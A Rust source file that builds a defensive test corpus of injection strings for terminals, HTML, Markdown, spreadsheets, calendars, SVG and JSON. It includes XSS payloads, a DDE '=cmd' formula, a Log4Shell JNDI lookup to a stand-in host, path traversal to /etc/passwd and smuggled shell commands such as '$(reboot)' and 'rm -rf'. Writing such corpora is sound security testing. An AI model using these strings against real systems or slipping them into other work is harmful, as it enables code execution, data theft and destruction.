//! The corpus: strings that try to be more than words, for terminals, HTML, Markdown, spreadsheets, calendars, SVG and JSON.

/// What makes a sequence of a terminal begin, in seven and in eight bits.
const INTRODUCERS: [&str; 10] =
    ["\x1b[", "\u{9b}", "\x1b]", "\u{9d}", "\x1bP", "\u{90}", "\x1b_", "\u{9f}", "\x1b^", "\x1bX"];

/// What stands in it.
const PAYLOADS: [&str; 9] =
    ["31m", "2J", "?1049l", "0;owned", "52;c;b3duZWQ=", "8;;https://evil.example", "1337;File=:AAAA", "6n", "999;999H"];

/// What ends it, or leaves it open.
const ENDS: [&str; 4] = ["\x07", "\x1b\\", "\u{9c}", ""];

/// Strings of which each is meant for something.
const WRITTEN: &[&str] = &[
    // Other controls of terminals
    "\x1bc",
    "\x1b(0",
    "\x1b#8",
    "\x1bD",
    "\x1bM",
    "\x1b7\x1b8",
    "\x1b=",
    "\x1bN",
    "\x1b%G",
    "\x1b\x1b[31m",
    "\x1b",
    "\x0e",
    "\x0f",
    "\x05",
    "\x07\x07\x07",
    "a\x08\x08\x08b",
    "\rRoot said",
    "\x0bx",
    "\x0cx",
    "\x7f",
    "\0",
    "\u{85}",
    "\u{84}",
    "\u{8d}",
    "\u{8e}",
    "\x1a",
    "\x11\x13",
    "\x1b[200~rm -rf\x1b[201~",
    "\x1b[>4;2m",
    "\x1b[?2026h",
    "\x1bPq#0;2;0;0;0\x1b\\",
    "\x1b_Gf=100;AAAA\x1b\\",
    "\x1b]4;1;?\x07",
    "\x1b]11;?\x1b\\",
    "\x1bP$qm\x1b\\",
    "\x1b[21t",
    "\x1b[0c",
    "\x1b]777;notify;a;b\x07",
    "\x1b]9;x\x07",
    "\x1b]133;A\x07",
    "\x1b]1337;SetMark\x07",
    // Direction and what is not seen
    "\u{202e}gpj.exe",
    "\u{202d}abc",
    "\u{202a}a",
    "\u{202b}b\u{202c}",
    "\u{2066}a\u{2067}b\u{2069}",
    "\u{2068}x",
    "\u{200e}\u{200f}",
    "\u{61c}x",
    "\u{200b}zero\u{200b}width",
    "\u{2060}\u{2061}\u{2062}\u{2063}",
    "\u{feff}bom",
    "\u{ad}soft\u{ad}",
    "\u{e0041}\u{e0042}\u{e007f}",
    "\u{e0100}",
    "\u{fff9}a\u{fffa}b\u{fffb}",
    "\u{3164}",
    "\u{115f}\u{1160}",
    "\u{180e}",
    "\u{17b4}",
    "\u{206a}\u{206f}",
    "\u{2028}line",
    "\u{2029}paragraph",
    "\u{fe0f}",
    "\u{200d}",
    "a\u{200d}b",
    "\u{1f1fa}",
    "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}",
    "\u{fdd0}",
    "\u{ffff}",
    "\u{10ffff}",
    "\u{e000}",
    "\u{fdfd}",
    "\u{12031}",
    "\u{301}\u{301}",
    "\u{20e3}",
    // HTML and scripts
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><svg onload=alert(1)>",
    "' onmouseover='alert(1)",
    "</title><script>x</script>",
    "<iframe src=javascript:alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<style>@import'//e.example'</style>",
    "<!--",
    "-->",
    "<![CDATA[",
    "]]>",
    "<?xml version='1.0'?>",
    "<!DOCTYPE x [<!ENTITY a 'b'>]>",
    "&lt;script&gt;",
    "&#60;script&#62;",
    "&#27;[31m",
    "&#x1b;]0;x&#7;",
    "&#8238;x",
    "&amp;lt;",
    "<b",
    "<",
    ">",
    "&",
    "&nbsp;",
    "</text></svg><script>",
    "</tspan><a xlink:href='javascript:x'>",
    "<foreignObject>",
    "<animate onbegin=x>",
    "<use href=data:x>",
    "<base href=//e.example>",
    "<meta http-equiv=refresh content=0>",
    "<object data=x>",
    "</p><p>",
    "</style>",
    "\u{ff1c}script\u{ff1e}",
    // Markdown
    "[x](javascript:alert(1))",
    "![x](https://e.example/t.png)",
    "[x]: https://e.example",
    "<https://e.example>",
    "https://e.example/auto",
    "www.e.example",
    "a@e.example",
    "# Heading",
    "## h",
    "- item",
    "1. item",
    "> quote",
    "```\ncode",
    "`x`",
    "**b**",
    "_i_",
    "~~s~~",
    "| a | b |",
    "---",
    "===",
    "    code",
    "[^1]",
    "[ ] task",
    "\\[x](y)",
    "<div>",
    "$x^2$",
    ":emoji:",
    "![",
    "](",
    "* * *",
    "+ plus",
    "&copy;",
    "[x][y]",
    "mailto:a@b.example",
    "ftp://e.example/x",
    // Spreadsheets
    "=1+1",
    "=cmd|'/c calc'!A0",
    "+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "|x",
    "%0",
    "\u{ff1d}1",
    "\u{ff0b}1",
    "\u{ff0d}1",
    "\u{ff20}x",
    " =1",
    "\u{a0}=1",
    "\"=1",
    "\",\"=1",
    "'=1",
    "a,b;c\td",
    "\"\"\"",
    "=HYPERLINK(\"https://e.example\")",
    "=IMPORTXML(1)",
    "DDE(\"x\")",
    "\u{3000}=1",
    // Calendars
    "\r\nEND:VEVENT\r\nBEGIN:VALARM",
    "\nATTENDEE:mailto:a@b",
    "a\\nb",
    "a;b,c:d",
    "X-A;VALUE=URI:x",
    "BEGIN:VCALENDAR",
    "\\",
    "\\\\",
    "ATTACH:file",
    // JSON
    "\"",
    "\\\"",
    "\"}",
    "\",\"id\":\"evil\"",
    "{\"$oid\": 1}",
    "\\u0000",
    "\\ud800",
    "\u{2028}\u{2029}",
    "__proto__",
    "]}",
    "NaN",
    "1e999",
    "\"\\",
    // Format strings, paths, shells, templates
    "%s%n%x",
    "{0}{}",
    "${jndi:ldap://e.example}",
    "{{7*7}}",
    "../../etc/passwd",
    "file:///etc/passwd",
    "$(reboot)",
    "`reboot`",
    "; reboot",
    "| reboot",
    "~/x",
    "-rf",
    "--help",
    "C:\\con",
    "/dev/null",
    "\u{130}\u{131}",
    "ß\u{1e9e}",
    "İstanbul",
    "ﬁ",
];

/// All strings.
pub fn corpus() -> Vec<String> {
    let mut out: Vec<String> = WRITTEN.iter().map(|s| (*s).to_owned()).collect();
    for (i, introducer) in INTRODUCERS.iter().enumerate() {
        for (j, payload) in PAYLOADS.iter().enumerate() {
            out.push(format!("{introducer}{payload}{}", ENDS[(i + j) % ENDS.len()]));
        }
    }
    for control in (0..0x20u8).chain(0x7f..=0x9f).map(char::from) {
        out.push(format!("x{control}y"));
    }
    // Characters of thousands of marks, and words of thousands of letters.
    out.push(format!("e{}", "\u{301}".repeat(3000)));
    out.push("\u{1f469}\u{200d}".repeat(800));
    out.push("\u{200d}".repeat(2000));
    out.push("A".repeat(5000));
    out.push("=".repeat(500));
    out.push("[".repeat(500));
    out.push("<b>".repeat(300));
    out.push("\x1b[".repeat(300));
    out.push("\x1b]".repeat(300));
    out
}

#[test]
fn the_corpus_is_large_and_of_different_strings() {
    let corpus = corpus();
    let different: std::collections::HashSet<&String> = corpus.iter().collect();
    assert!(different.len() >= 200 && different.len() == corpus.len(), "{} of {}", different.len(), corpus.len());
}
